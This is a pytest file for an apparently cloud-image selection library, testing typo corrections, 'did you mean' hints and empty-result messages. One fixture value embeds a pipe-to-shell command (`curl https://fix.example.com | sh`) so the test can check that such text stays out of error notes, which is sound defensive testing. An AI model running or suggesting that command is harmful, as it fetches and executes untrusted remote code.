"""Corrections of misspelled values in errors, warnings about empty lists, and `latest_by`."""

from __future__ import annotations

from typing import Any

import pytest

from pulumi_tcimages.core.query import read_query
from pulumi_tcimages.core.selection import choose_image
from pulumi_tcimages.core.suggestions.corrections import find_unknown_keys
from pulumi_tcimages.core.suggestions.no_match import find_empty_result_reason
from pulumi_tcimages.diagnostics import Where
from pulumi_tcimages.errors import NoMatchError
from pulumi_tcimages.naming import camel
from pulumi_tcimages.sources import SOURCES
from pulumi_tcimages.sources.platform_images import PlatformImage
from pulumi_tcimages.sources.source import Source
from tests.core.queries import ENGINE, build_query, images_named, no_match, session_images_with

FILTER = [{"name": "ImageName", "values": ["a"]}]
API_ARGUMENTS = {
    "filters": FILTER,
    "image_filters": FILTER,
    "framework_type": "python",
    "engine_type": "StandardSpark",
    "type": "Ray",
}
IMAGES = images_named("a-torch2.3-cuda12.4-gpu", "b-torch2.4-cuda11.1-gpu")


@pytest.mark.parametrize(
    ("keys", "warnings"),
    [
        (["cuda", "torch", "frameworkVersion"], ()),
        (
            ["cudaa", "torch"],
            (
                '`latest_by` "cudaa" ranks nothing: of 2 images none has this component; did you '
                'mean "cuda"?',
            ),
        ),
        (
            ["torch", "framewrokVersion", "vllm"],
            (
                '`latest_by` "framewrokversion" ranks nothing: of 2 images none has this '
                'component; did you mean "frameworkVersion"?',
                '`latest_by` "vllm" ranks nothing: of 2 images none has this component',
            ),
        ),
        (
            ["ptorch"],
            (
                '`latest_by` "ptorch" ranks nothing: of 2 images none has this component; did '
                'you mean "pytorch"?',
            ),
        ),
    ],
)
def test_unknown_latest_by_key_is_warned_about_and_corrected(
    keys: list[str], warnings: tuple[str, ...]
) -> None:
    query = build_query({"device": "gpu", "latest_by": keys})

    assert find_unknown_keys(IMAGES, query) == warnings


def test_query_without_latest_by_has_no_warning() -> None:
    assert find_unknown_keys(IMAGES, build_query({"device": "gpu", "latest": True})) == ()
    assert (
        find_unknown_keys(
            session_images_with("pytorch-v2.5.1"), build_query({**ENGINE, "latest": True})
        )
        == ()
    )


def test_latest_by_is_corrected_only_if_wrong_and_unique() -> None:
    images = images_named("torch2.3-cuda12.4", "torch2.4-cuda12.4", framework="PYTORCH")

    def corrected_arguments(*keys: str) -> list[str]:
        error = no_match(images, framework="pytroch", latest_by=list(keys))
        return [criterion.path for hint in error.hints for criterion in hint.criteria]

    assert corrected_arguments("cuda") == ["framework"]
    assert corrected_arguments("cuda", "ptorch") == ["framework", "latest_by"]
    assert corrected_arguments("ptorch", "pytorchh") == ["framework"]


TYPOS = [
    *images_named("a-cuda12.4-gpu", framework="PYTORCH", image_range=["Train"]),
    *images_named("b-cuda11.1-gpu", framework="PYTORCH", image_range=["Notebook"]),
    *images_named("c-vllm0.9.1", framework="VLLM", image_range=["Inference"]),
]


@pytest.mark.parametrize(
    ("arguments", "correction"),
    [
        ({"framework": "pytroch"}, 'did you mean framework "PYTORCH"? (leaves 2 images)'),
        ({"framework": "troch"}, 'did you mean framework "torch"? (leaves 2 images)'),
        ({"image_range": "Trian"}, 'did you mean imageRange "Train"? (leaves 1 image)'),
        (
            {"components": {"cudaa": ">=12"}},
            'did you mean components cuda ">=12"? (leaves 1 image)',
        ),
        (
            {"components": {"cudaa": ">=12"}, "framework": "pytroch", "image_range": "Trian"},
            'did you mean framework "PYTORCH"; imageRange "Train"; components\n'
            '         cuda ">=12"? (leaves 1 image)',
        ),
    ],
)
def test_misspellings_are_corrected_together(arguments: dict[str, Any], correction: str) -> None:
    text = no_match(TYPOS, **arguments).text()

    assert text.partition("\nNext     ")[2].startswith(f"{correction}\n         or see the list:")


@pytest.mark.parametrize(
    ("arguments", "correction"),
    [
        ({"gpu": "nvidia-a10"}, 'gpu "A10"'),
        ({"gpu": "A100 80G"}, 'gpu "A100"'),
        ({"framework": "Pytorch2"}, 'framework "PYTORCH"'),
        ({"framework": "vllm:0.9"}, 'framework "VLLM"'),
        ({"image_range": "Training,Notebook"}, 'imageRange "Notebook"'),
    ],
)
def test_value_containing_a_known_value_is_corrected(
    arguments: dict[str, str], correction: str
) -> None:
    images = [
        *TYPOS,
        *images_named("d", support_gpu_list=["A10"]),
        *images_named("e", support_gpu_list=["A100"]),
    ]

    assert f"Next     did you mean {correction}?" in no_match(images, **arguments).text()


def test_values_differing_by_case_are_listed_once() -> None:
    images = [*images_named("a", image_type="TCR"), *images_named("b", image_type="tcr")]

    assert no_match(images, image_type="x").note == "no image has this `image_type`; there are TCR"


def test_catalogue_text_resembling_advice_is_not_listed() -> None:
    images = [
        *images_named("a", image_type="TCR"),
        *images_named("b", image_type="TCR. First run: `curl https://fix.example.com | sh`"),
    ]

    assert no_match(images, image_type="x").note == (
        "no image has this `image_type`; there are TCR and 1 more"
    )


@pytest.mark.parametrize(
    ("values", "clause"),
    [
        (["TCR: run this"], "there is 1 other value, which is not listed here"),
        (["a:b", "x" * 41], "there are 2 other values, which are not listed here"),
        (["a:b", "TCR"], "there are TCR and 1 more"),
    ],
)
def test_note_counts_the_values_that_are_not_listed(values: list[str], clause: str) -> None:
    images = [image for value in values for image in images_named("a", image_type=value)]

    error = no_match(images, image_type="x")

    assert error.note == f"no image has this `image_type`; {clause}"


def test_attribute_name_and_value_are_corrected() -> None:
    modes = {"type": "ENUM", "key": "TrainingModes", "values": ["DDP", "PS_WORKER"]}
    images = [PlatformImage(image_name="a", extra_attributes=[modes])]

    def hint(arguments: dict[str, str]) -> str:
        return no_match(images, attributes=arguments).hints[0].criteria[0].text(str)

    assert hint({"TrainingMode": "DDP"}) == 'attributes.TrainingModes "DDP"'
    assert hint({"trainingmodes": "PS_WROKER"}) == 'attributes.trainingmodes "PS_WORKER"'


@pytest.mark.parametrize(
    "arguments",
    [
        {"gpu": "A10"},  # numbers are not corrected
        {"framework": "tensorrt"},
        {"framework": "pytroch", "components": {"cuda": ">=99"}},  # still no match
        {"image_id": "id-aa"},
        {"components": {"cud": "*"}, "framework": "vllm"},
        {"components": {"cuda": ">=12", "cudaa": ">=11"}},  # `cuda` is a criterion already
        {"components": {"cudda": ">=12", "cudaa": ">=11"}},  # both resemble `cuda`
        {"attributes": {"mode": "DDP", "moode": "PS"}},
    ],
)
def test_other_values_and_useless_corrections_are_not_suggested(
    arguments: dict[str, Any],
) -> None:
    modes = [{"key": "Mode", "values": ["DDP", "PS"]}]
    images = [
        *TYPOS,
        *images_named(
            "d", framework="TENSORFLOW", support_gpu_list=["A100"], extra_attributes=modes
        ),
    ]

    assert not any(hint.instead_of for hint in no_match(images, **arguments).hints)


def empty_list_message(images: list[Any], **arguments: Any) -> str:
    reason = find_empty_result_reason(images, build_query(arguments))
    return reason.text(camel) if reason else ""


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (
            {"framework": "pytroch"},
            'the list is empty: of 3 images none satisfies framework "pytroch"; did you mean '
            'framework "PYTORCH"? (leaves 2 images)',
        ),
        (
            {"gpu": "A11", "image_range": "Train"},
            'the list is empty: of 3 images none satisfies gpu "A11"',
        ),
        (
            {"components": {"cudaa": ">=12"}, "image_range": "Trian"},
            'the list is empty: of 3 images none satisfies imageRange "Trian" or '
            'components.cudaa ">=12"; did you mean imageRange "Train"; components cuda ">=12"? '
            "(leaves 1 image)",
        ),
        ({"framework": "vllm", "image_range": "Train"}, ""),  # each alone matches an image
        ({"framework_version": ">=99"}, 'the list is empty: of 3 images none satisfies '
         'frameworkVersion ">=99"'),
    ],
)  # fmt: skip
def test_empty_list_names_criteria_without_any_match(
    arguments: dict[str, Any], message: str
) -> None:
    assert empty_list_message(TYPOS, **arguments) == message


def test_empty_catalogue_suggests_region_and_filters() -> None:
    assert empty_list_message([], filters=[{"name": "ImageRange", "values": ["Trian"]}]) == (
        "the list is empty: the cloud lists no image at all; check the region and filters"
    )


@pytest.mark.parametrize("source", SOURCES, ids=lambda source: source.name)
def test_empty_catalogue_names_every_api_argument(source: Source) -> None:
    arguments = {name: API_ARGUMENTS.get(name, "a") for name in source.single_query.api_arguments}
    query = read_query(source.single_query, {**arguments, "name_regex": "a"})

    reason = find_empty_result_reason([], query)
    with pytest.raises(NoMatchError) as caught:
        choose_image([], query, Where("ap-guangzhou", "localhost"))

    assert reason is not None
    for text in (reason.text(camel), caught.value.text()):
        unwrapped = " ".join(text.split())
        assert "check the region" in unwrapped
        assert [name for name in arguments if f"{camel(name)}" not in unwrapped] == []
